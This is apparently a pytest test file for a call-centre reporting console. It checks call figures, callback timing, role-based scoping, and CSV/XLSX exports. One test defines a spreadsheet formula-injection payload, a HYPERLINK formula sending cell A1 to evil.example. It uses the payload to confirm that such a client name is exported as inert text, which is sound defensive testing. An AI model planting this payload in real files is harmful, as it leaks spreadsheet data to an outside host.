"""``/reports``: the period's figures per manager and for the company match the calls laid down,
each figure lists exactly its calls, the tables download as CSV and XLSX with the same figures,
a supervisor sees his team only, and a period that cannot be read is a 400 saying why. Every table
downloads in both formats and both languages; a client's name that looks like a formula stays text
in the files; a manager's id that is no id is a 404; the page, its charts and its files share one
computation of the period's figures, kept a minute; a supervisor's calls are read for his team.

The week laid down (Moscow, November 2026; working hours 09:00-18:00, a ring under 10 s short):

* Mon 08:00 the client (Иван's) rings 101 unanswered — out of hours; called back at 08:15 (15 min);
* Mon 11:00 an unknown number rings 101 unanswered; called back on Tue 09:50 (7 h 50 min of working
  time: within a working day, though 22 h 50 min passed);
* Mon 12:00 an unknown number gives up in the IVR (nobody rang): nobody's, never called back,
  escalated;
* Mon 14:00 Пётр's client finds 202 busy — nobody available; escalated; called back on Wed 10:00
  (14 working hours: later);
* Mon 15:00 an unknown number rings 101 for 5 s — a short ring (no case);
* Mon 16:00 the client's call answered by Иван, recorded;
* and on 31 October a call answered by Иван, outside the period.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta
from typing import Any
from urllib.parse import urlencode

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.child import INVALID_TITLE_REGEX
from openpyxl.worksheet.worksheet import Worksheet

from config.settings import CallbackSettings, EscalationSettings, Settings, TelegramSettings
from hub.app import create_app
from hub.bootstrap.core import SETTINGS
from hub.bootstrap.database import SESSIONS
from hub.bootstrap.directory import DIRECTORY
from hub.bootstrap.people import ESCALATION_SWEEP, SCHEDULE
from hub.console.reports import KEPT
from hub.domain.people import Role
from hub.domain.report_figures import classify, lines, read_period
from hub.domain.scope import team_of
from hub.services.reports.period import company_rules
from storage.uow import UnitOfWork
from tests.support.api import Api, update
from tests.support.clock import MOSCOW, TestClock
from tests.support.console import Browser, with_password
from tests.support.settings import ADMIN_TOKEN, HOOK_SECRET, make_settings
from tests.support.team import CALLER, miss, sales_team

CALLER2 = "+79035550101"
STRANGER1, STRANGER2, STRANGER3 = "+79165550177", "+79165550188", "+79165550199"
NOVEMBER = "from=2026-11-01&until=2026-11-30"
PASSWORD = "correct horse"


@pytest.fixture
def settings(db_url: str) -> Settings:
    return make_settings(
        db_url,
        callbacks=CallbackSettings(min_ring_time=timedelta(seconds=10)),
        # The sweep runs when the test calls it, never on real time passing.
        escalation=EscalationSettings(sweep_interval=timedelta(hours=1)),
    )


def at(day: int, hour: int, minute: int = 0, second: int = 0, month: int = 11) -> datetime:
    return datetime(2026, month, day, hour, minute, second, tzinfo=MOSCOW)


def _event(
    call_id: str, state: str, moment: datetime, number: str, extension: str | None, **kw: Any
) -> dict[str, Any]:
    outbound = kw.pop("direction", "inbound") == "outbound"
    parties = {"caller": extension or "100", "callee": number} if outbound else {"caller": number}
    return update(
        call_id,
        state,
        extension=extension,
        at=moment.isoformat(),
        direction="outbound" if outbound else "inbound",
        **parties,
        **kw,
    )


async def _call(
    api: Api,
    clock: TestClock,
    call_id: str,
    number: str,
    extension: str | None,
    start: datetime,
    *,
    rings: int,
    answered: bool = False,
    reason: str = "no_answer",
    outbound: bool = False,
    recording: str | None = None,
) -> None:
    """One call that rings ``rings`` seconds, then is answered (and talks a minute) or ends."""
    clock.set(start + timedelta(seconds=rings + 90))
    way = {"direction": "outbound" if outbound else "inbound"}
    events = [_event(call_id, "ringing", start, number, extension, **way)]
    end = start + timedelta(seconds=rings)
    if answered:
        events.append(
            _event(call_id, "answered", end, number, extension, **way)
            | ({"recording_url": recording} if recording else {})
        )
        end += timedelta(seconds=60)
        events.append(_event(call_id, "ended", end, number, extension, reason="normal", **way))
    else:
        events.append(_event(call_id, "ended", end, number, extension, reason=reason, **way))
    await api.hook(events)


async def seed(api: Api, clock: TestClock) -> dict[str, Any]:
    """The team, the other team and the week described above; the people's ids."""
    await api.app[SCHEDULE].settle(ESCALATION_SWEEP)
    team = await sales_team(api, boss_extension="100")
    other_boss = await api.post("/api/v1/managers", {"name": "Семён", "role": "supervisor"})
    petr = await api.post(
        "/api/v1/managers",
        {"name": "Пётр", "extension": "202", "supervisor_id": other_boss["id"]},
    )
    await api.post(
        "/api/v1/clients", {"name": "ЗАО Берёза", "manager_id": petr["id"], "phones": [CALLER2]}
    )
    await _call(api, clock, "old", CALLER, "101", at(31, 10, month=10), rings=5, answered=True)
    await _call(api, clock, "a", CALLER, "101", at(23, 8), rings=30)
    await _call(
        api, clock, "b", CALLER, "101", at(23, 8, 15), rings=10, answered=True, outbound=True
    )
    await _call(api, clock, "c", STRANGER1, "101", at(23, 11), rings=40)
    await _call(api, clock, "d", STRANGER2, None, at(23, 12), rings=20, reason="cancel")
    await _call(api, clock, "e", CALLER2, "202", at(23, 14), rings=15, reason="busy")
    await _call(api, clock, "f", STRANGER3, "101", at(23, 15), rings=5)
    recording = "https://records.example/g.mp3"
    await _call(
        api, clock, "g", CALLER, "101", at(23, 16), rings=5, answered=True, recording=recording
    )
    await _call(
        api, clock, "h", STRANGER1, "101", at(24, 9, 50), rings=10, answered=True, outbound=True
    )
    assert await api.app[SCHEDULE].job(ESCALATION_SWEEP).run(at(24, 15)) == 2
    await _call(api, clock, "i", CALLER2, "202", at(25, 10), rings=10, answered=True, outbound=True)
    clock.set(at(25, 10, 30))
    people = {"olga": team["boss"]["id"], "ivan": team["ivan"]["id"], "petr": petr["id"]}
    people["director"] = team["director"]["id"]
    return people


async def logged_in(api: Api, manager_id: int, login: str) -> Browser:
    await with_password(api, manager_id, PASSWORD, login=login)
    browser = Browser(api)
    browser.forget_cookies()  # one client: whoever was logged in before is logged out
    await browser.log_in(login, PASSWORD)
    return browser


def _cells(row: str) -> list[str]:
    return [
        re.sub(r"<[^>]+>", "", cell).strip()
        for cell in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)
    ]


def _row(text: str, table: str, name: str) -> list[str]:
    """The cells' texts of ``name``'s row in the page's ``table``."""
    section = text[text.index(f'data-table="{table}"') :]
    section = section[: section.index("</table>")]
    for row in re.findall(r"<tr[^>]*>(.*?)</tr>", section, re.S):
        cells = _cells(row)
        if cells and cells[0] == name:
            return cells
    raise AssertionError(f"no row {name!r} in {table}")


async def test_the_directors_figures_match_the_week(api: Api, clock: TestClock) -> None:
    people = await seed(api, clock)
    browser = await logged_in(api, people["director"], "director")
    page = await browser.get(f"/reports?{NOVEMBER}")
    assert page.status == 200, page.text
    # in, out, missed, out of hours, short ring, nobody available, abandoned, rang unanswered
    assert _row(page.text, "calls", "Иван")[1:] == ["4", "2", "3", "1", "1", "0", "0", "1"]
    assert _row(page.text, "calls", "Пётр")[1:] == ["1", "1", "1", "0", "0", "1", "0", "0"]
    assert _row(page.text, "calls", "никто в отдельности")[1:] == [
        "1",
        "0",
        "1",
        "0",
        "0",
        "0",
        "1",
        "0",
    ]
    assert _row(page.text, "calls", "Вся компания")[1:] == ["6", "3", "5", "1", "1", "1", "1", "1"]
    # cases, in 20 min, in a working day, later, never, median, p90, escalated, forgotten
    assert _row(page.text, "callbacks", "Иван")[1:] == [
        "2",
        "1",
        "1",
        "0",
        "0",
        "11 ч 32 мин",
        "22 ч 50 мин",
        "0",
        "0",
    ]
    assert _row(page.text, "callbacks", "Вся компания")[1:6] == ["4", "1", "1", "1", "1"]
    assert _row(page.text, "callbacks", "Вся компания")[8] == "2"


def _listed(text: str) -> list[list[str]]:
    """The rows of the calls listed behind a figure: time, direction, number, client, manager,
    outcome."""
    section = text[text.index('data-table="list"') :]
    section = section[section.index("<tbody>") : section.index("</table>")]
    rows = re.findall(r"<tr>(.*?)</tr>", section, re.S)
    return [_cells(row)[:6] for row in rows]


async def test_each_figure_lists_exactly_its_calls(api: Api, clock: TestClock) -> None:
    people = await seed(api, clock)
    browser = await logged_in(api, people["director"], "director")
    ivan = people["ivan"]
    missed = await browser.get(f"/reports/calls?{NOVEMBER}&manager={ivan}&figure=missed")
    assert missed.status == 200
    assert [(r[0], r[2], r[4]) for r in _listed(missed.text)] == [
        ("23.11.2026 08:00", CALLER, "Иван"),
        ("23.11.2026 11:00", STRANGER1, "Иван"),
        ("23.11.2026 15:00", STRANGER3, "Иван"),
    ]
    assert _listed(missed.text)[0][3] == "ООО Ромашка"
    assert _listed(missed.text)[0][5] == "пропущен: вне рабочего времени"
    soon = await browser.get(f"/reports/calls?{NOVEMBER}&manager={ivan}&figure=returned_soon")
    assert [r[2] for r in _listed(soon.text)] == [CALLER]
    abandoned = await browser.get(f"/reports/calls?{NOVEMBER}&manager=all&figure=missed_abandoned")
    assert [(r[2], r[4]) for r in _listed(abandoned.text)] == [(STRANGER2, "")]
    escalated = await browser.get(f"/reports/calls?{NOVEMBER}&manager=all&figure=escalated")
    assert [r[2] for r in _listed(escalated.text)] == [STRANGER2, CALLER2]
    answered = await browser.get(f"/reports/calls?{NOVEMBER}&manager={ivan}&figure=calls_in")
    rows = _listed(answered.text)
    assert [r[0] for r in rows] == [
        "23.11.2026 08:00",
        "23.11.2026 11:00",
        "23.11.2026 15:00",
        "23.11.2026 16:00",
    ]
    # The one recorded call plays through a signed link.
    assert answered.text.count("/recording?expires=") == 1
    # The table's figure links to this very list.
    page = await browser.get(f"/reports?{NOVEMBER}")
    link = f"/reports/calls?{NOVEMBER}&manager={ivan}&figure=missed".replace("&", "&amp;")
    assert f'href="{link}"' in page.text
    unknown = await browser.get(f"/reports/calls?{NOVEMBER}&manager=all&figure=nonsense")
    assert unknown.status == 404


async def test_tables_download_as_csv_and_xlsx(api: Api, clock: TestClock) -> None:
    people = await seed(api, clock)
    browser = await logged_in(api, people["director"], "director")
    async with browser.client.get(f"/reports/export/calls.csv?{NOVEMBER}") as response:
        assert response.status == 200
        assert response.headers["Content-Type"].startswith("text/csv")
        assert "attachment" in response.headers["Content-Disposition"]
        lines = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    assert lines[0][:4] == ["Менеджер", "Входящие", "Исходящие", "Пропущено"]
    by_name = {line[0]: line[1:] for line in lines[1:]}
    assert by_name["Иван"] == ["4", "2", "3", "1", "1", "0", "0", "1"]
    assert by_name["Вся компания"] == ["6", "3", "5", "1", "1", "1", "1", "1"]
    async with browser.client.get(f"/reports/export/callbacks.xlsx?{NOVEMBER}") as response:
        assert response.status == 200
        book = load_workbook(io.BytesIO(await response.read()))
    sheet = book.active
    assert sheet is not None
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0][:2] == ["Менеджер", "Пропущенных номеров"]
    ivan_row = next(row for row in values if row[0] == "Иван")
    assert ivan_row[1:6] == [2, 1, 1, 0, 0]
    assert ivan_row[6:8] == ["11 ч 32 мин", "22 ч 50 мин"]
    query = f"{NOVEMBER}&manager={people['ivan']}&figure=missed"
    async with browser.client.get(f"/reports/export/list.csv?{query}") as response:
        listed = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    assert [line[2] for line in listed[1:]] == [CALLER, STRANGER1, STRANGER3]
    async with browser.client.get(f"/reports/export/nonsense.csv?{NOVEMBER}") as response:
        assert response.status == 404


async def test_a_supervisor_sees_his_team_and_a_manager_himself(api: Api, clock: TestClock) -> None:
    people = await seed(api, clock)
    olga = await logged_in(api, people["olga"], "olga")
    page = await olga.get(f"/reports?{NOVEMBER}")
    assert page.status == 200
    assert "Пётр" not in page.text and "Семён" not in page.text and CALLER2 not in page.text
    # His team's totals: Иван's calls and nobody's (the IVR abandon), not Пётр's.
    assert _row(page.text, "calls", "Вся команда")[1:4] == ["5", "2", "4"]
    petr = await olga.get(f"/reports/calls?{NOVEMBER}&manager={people['petr']}&figure=missed")
    assert petr.status == 404
    everyone = await olga.get(
        f"/reports/calls?{NOVEMBER}&manager=all&figure=missed_nobody_available"
    )
    assert everyone.status == 200 and 'data-count="0"' in everyone.text
    async with olga.client.get(f"/reports/export/calls.csv?{NOVEMBER}") as response:
        text = (await response.read()).decode("utf-8-sig")
    assert "Пётр" not in text and "Иван" in text

    ivan = await logged_in(api, people["ivan"], "ivan")
    own = await ivan.get(f"/reports?{NOVEMBER}")
    assert _row(own.text, "calls", "Иван")[1:4] == ["4", "2", "3"]
    assert "Ольга" not in own.text.split("<main>")[1] and "никто в отдельности" not in own.text
    nobody = await ivan.get(f"/reports/calls?{NOVEMBER}&manager=none&figure=missed")
    assert nobody.status == 404


async def test_a_bad_period_is_a_clear_400(api: Api, clock: TestClock) -> None:
    people = await seed_people_only(api)
    browser = await logged_in(api, people, "director")
    wrong = await browser.get("/reports?from=2026-13-01&until=2026-11-30")
    assert wrong.status == 400
    assert "Дата «с» не читается: 2026-13-01" in wrong.text
    backwards = await browser.get("/reports?from=2026-11-30&until=2026-11-01")
    assert backwards.status == 400 and "кончается раньше" in backwards.text
    long = await browser.get("/reports?from=2024-01-01&until=2026-11-01")
    assert long.status == 400 and "не длиннее года" in long.text
    chart = await browser.get("/reports/chart/waits.svg?until=31.02.2026")
    assert chart.status == 400 and "Дата «по» не читается" in chart.text
    # No dates: this month in the company's zone.
    default = await browser.get("/reports")
    assert default.status == 200 and "01.11.2026 — 30.11.2026" in default.text


async def seed_people_only(api: Api) -> int:
    team = await sales_team(api)
    director: int = team["director"]["id"]
    return director


async def test_charts_are_svg_files(api: Api, clock: TestClock) -> None:
    people = await seed(api, clock)
    browser = await logged_in(api, people["director"], "director")
    page = await browser.get(f"/reports?{NOVEMBER}")
    sources = re.findall(r'<img class="chart"[^>]* src="([^"]+)"', page.text)
    assert len(sources) == 3
    for source in sources:
        async with browser.client.get(source.replace("&amp;", "&")) as response:
            assert response.status == 200
            assert response.content_type == "image/svg+xml"
            body = await response.text()
        assert body.startswith("<svg") and 'xmlns="http://www.w3.org/2000/svg"' in body
    async with browser.client.get(f"/reports/chart/nonsense.svg?{NOVEMBER}") as response:
        assert response.status == 404


TABLES = ("calls", "callbacks", "unregistered", "kpi", "forgotten")


async def _download(browser: Browser, path: str) -> tuple[list[list[Any]], str]:
    """A file's rows (an XLSX's values, a CSV's strings) and, for a workbook, its sheet's name."""
    async with browser.client.get(path) as response:
        assert response.status == 200, (path, await response.text())
        assert "attachment" in response.headers["Content-Disposition"]
        body = await response.read()
    if path.split("?")[0].endswith(".csv"):
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig")))), ""
    sheet = load_workbook(io.BytesIO(body)).active
    assert isinstance(sheet, Worksheet)
    return [list(row) for row in sheet.iter_rows(values_only=True)], sheet.title


async def test_every_table_downloads_as_csv_and_xlsx(api: Api, clock: TestClock) -> None:
    people = await seed(api, clock)
    browser = await logged_in(api, people["director"], "director")
    lists = [
        f"list.{{}}?{NOVEMBER}&manager={who}&figure={figure}"
        for who, figure in ((people["ivan"], "missed"), ("all", "escalated"), ("none", "missed"))
    ]
    for path in [f"{name}.{{}}?{NOVEMBER}" for name in TABLES] + lists:
        from_csv, _ = await _download(browser, "/reports/export/" + path.format("csv"))
        from_xlsx, title = await _download(browser, "/reports/export/" + path.format("xlsx"))
        assert from_csv[0] == from_xlsx[0] and len(from_csv) == len(from_xlsx), path
        assert title and len(title) <= 31 and not INVALID_TITLE_REGEX.search(title), title
    missed, title = await _download(
        browser, f"/reports/export/list.xlsx?{NOVEMBER}&manager={people['ivan']}&figure=missed"
    )
    assert title == "Пропущено — Иван"
    assert [row[2] for row in missed[1:]] == [CALLER, STRANGER1, STRANGER3]
    nobodys, title = await _download(
        browser, f"/reports/export/list.xlsx?{NOVEMBER}&manager=none&figure=missed"
    )
    assert title == "Пропущено — никто в отдельности"
    assert [row[2] for row in nobodys[1:]] == [STRANGER2]


async def test_files_in_english_too(aiohttp_client: Any, db_url: str, clock: TestClock) -> None:
    settings = make_settings(db_url, telegram=TelegramSettings(language="en"))
    api = Api(await aiohttp_client(create_app(settings, clock=clock)), ADMIN_TOKEN, HOOK_SECRET)
    team = await sales_team(api)
    await miss(api, "m1", CALLER)
    browser = await logged_in(api, team["director"]["id"], "director")
    titles = []
    for name in TABLES:
        from_csv, _ = await _download(browser, f"/reports/export/{name}.csv?{NOVEMBER}")
        from_xlsx, title = await _download(browser, f"/reports/export/{name}.xlsx?{NOVEMBER}")
        assert from_csv[0] == from_xlsx[0], name
        titles.append(title)
    assert titles == [
        "Calls",
        "Callbacks",
        "Unregistered numbers",
        "KPI — contacts refined",
        "Forgotten clients",
    ]
    query = f"{NOVEMBER}&manager=all&figure=missed"
    rows, title = await _download(browser, f"/reports/export/list.xlsx?{query}")
    assert title == "Missed — The company"
    assert rows[0][:3] == ["Time", "Direction", "Number"] and rows[1][2] == CALLER
    rows, _ = await _download(browser, f"/reports/export/list.csv?{query}")
    assert rows[1][2] == CALLER


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Открыть")'


async def test_a_clients_name_stays_text_in_the_files(api: Api, clock: TestClock) -> None:
    team = await sales_team(api, ((EVIL, CALLER),))
    await _call(api, clock, "a1", CALLER, "101", at(2, 11), rings=5, answered=True)
    await _call(api, clock, "m1", CALLER, "101", at(25, 11), rings=30)
    # Three months without a word since the 2nd: the client is forgotten.
    clock.set(at(2, 12) + api.app[SETTINGS].clients.forgotten_after)
    browser = await logged_in(api, team["director"]["id"], "director")
    query = f"{NOVEMBER}&manager=all&figure=missed"
    listed, _ = await _download(browser, f"/reports/export/list.csv?{query}")
    assert [row[2:4] for row in listed[1:]] == [[CALLER, "'" + EVIL]]
    forgotten, _ = await _download(browser, f"/reports/export/forgotten.csv?{NOVEMBER}")
    assert [row[0] for row in forgotten[1:]] == ["'" + EVIL]  # the client, by name only
    assert "ID клиента" not in forgotten[0] and "ID менеджера" not in forgotten[0]
    for path in (f"list.xlsx?{query}", f"forgotten.xlsx?{NOVEMBER}"):
        async with browser.client.get(f"/reports/export/{path}") as response:
            sheet = load_workbook(io.BytesIO(await response.read())).active
        assert isinstance(sheet, Worksheet)
        cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == EVIL]
        assert [c.data_type for c in cells] == ["s"], path
        numbers = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == CALLER]
        assert [c.data_type for c in numbers] == (["s"] if path.startswith("list") else [])


async def test_an_id_that_is_no_id_is_a_404_and_a_date_out_of_range_a_400(
    api: Api, clock: TestClock
) -> None:
    people = await seed(api, clock)
    browser = await logged_in(api, people["director"], "director")
    for manager in ("²", "①", "2147483648", "99999999999", "-1", "1e3", " 1"):
        for path in ("/reports/calls", "/reports/export/list.csv"):
            query = urlencode({"from": "2026-11-01", "manager": manager, "figure": "missed"})
            found = await browser.get(f"{path}?{query}")
            assert found.status == 404, (path, manager, found.text)
    for first, last, says in (
        ("9999-12-01", "9999-12-31", "Дата «с» вне допустимых лет: 9999-12-01"),
        ("0001-01-01", "0001-01-31", "Дата «с» вне допустимых лет: 0001-01-01"),
        ("2026-11-01", "9999-12-31", "Дата «по» вне допустимых лет: 9999-12-31"),
    ):
        query = urlencode({"from": first, "until": last})
        for path in ("/reports", "/reports/chart/per-day.svg", "/reports/export/calls.xlsx"):
            refused = await browser.get(f"{path}?{query}")
            assert (refused.status, says in refused.text) == (400, True), (path, refused.text)
        listed = await browser.get(f"/reports/calls?{query}&manager=all&figure=missed")
        assert listed.status == 400 and "от 2000 до 2999" in listed.text


def _figure(text: str) -> list[str]:
    return _row(text, "calls", "Иван")[1:4]


async def test_the_page_its_charts_and_files_share_one_computation(
    api: Api, clock: TestClock
) -> None:
    people = await seed(api, clock)
    browser = await logged_in(api, people["director"], "director")
    viewed = clock.now()
    page = await browser.get(f"/reports?{NOVEMBER}")
    assert _figure(page.text) == ["4", "2", "3"]
    for chart in ("per-day", "waits", "per-manager"):
        assert (await browser.get(f"/reports/chart/{chart}.svg?{NOVEMBER}")).status == 200
    assert (await browser.get(f"/reports/export/calls.csv?{NOVEMBER}")).status == 200
    assert len(api.app[KEPT]) == 1
    # A call missed just after: the page, its charts and files show the figures as computed.
    await _call(api, clock, "late", STRANGER3, "101", at(25, 9), rings=30)
    clock.set(viewed + timedelta(seconds=30))
    assert _figure((await browser.get(f"/reports?{NOVEMBER}")).text) == ["4", "2", "3"]
    rows, _ = await _download(browser, f"/reports/export/calls.csv?{NOVEMBER}")
    assert next(row for row in rows if row[0] == "Иван")[1:4] == ["4", "2", "3"]
    # A minute later they are computed again.
    clock.set(viewed + timedelta(seconds=61))
    assert _figure((await browser.get(f"/reports?{NOVEMBER}")).text) == ["5", "2", "4"]
    rows, _ = await _download(browser, f"/reports/export/calls.csv?{NOVEMBER}")
    assert next(row for row in rows if row[0] == "Иван")[1:4] == ["5", "2", "4"]
    # Another scope is another computation, and the director's stays as it was.
    olga = await logged_in(api, people["olga"], "olga")
    assert _figure((await olga.get(f"/reports?{NOVEMBER}")).text) == ["5", "2", "4"]
    assert len(api.app[KEPT]) == 2


async def test_a_supervisors_calls_are_read_for_his_team(api: Api, clock: TestClock) -> None:
    people = await seed(api, clock)
    period = read_period("2026-11-01", "2026-11-30", at(25, 12).date(), MOSCOW)
    rules = company_rules(api.app[SETTINGS], api.app[DIRECTORY].snapshot.calendar)
    staff = [people[name] for name in ("olga", "ivan", "petr")]
    async with UnitOfWork(api.app[SESSIONS], read_only=True) as uow:
        everything = classify(
            await uow.reports.period_calls(period.start, period.end),
            await uow.reports.period_cases(period.start, period.end),
            rules,
        )
        for scope in (
            team_of(Role.SUPERVISOR, people["olga"], [people["ivan"]]),
            team_of(Role.MANAGER, people["ivan"], []),
            team_of(Role.MANAGER, people["petr"], []),
        ):
            nobody = scope.owns(None)
            read = classify(
                await uow.reports.period_calls(period.start, period.end, scope.team, nobody=nobody),
                await uow.reports.period_cases(period.start, period.end, scope.team, nobody=nobody),
                rules,
            )
            # Fewer rows read, the same figures.
            assert len(read.calls) < len(everything.calls)
            assert lines(read, staff, scope.owns) == lines(everything, staff, scope.owns)
            # Пётр's answered call back to his client; the IVR abandon that is nobody's.
            started = {call.started_at for call, _, _ in read.calls}
            assert (at(25, 10) in started) == (people["petr"] in scope.team), scope
            assert (at(23, 12) in started) == nobody, scope
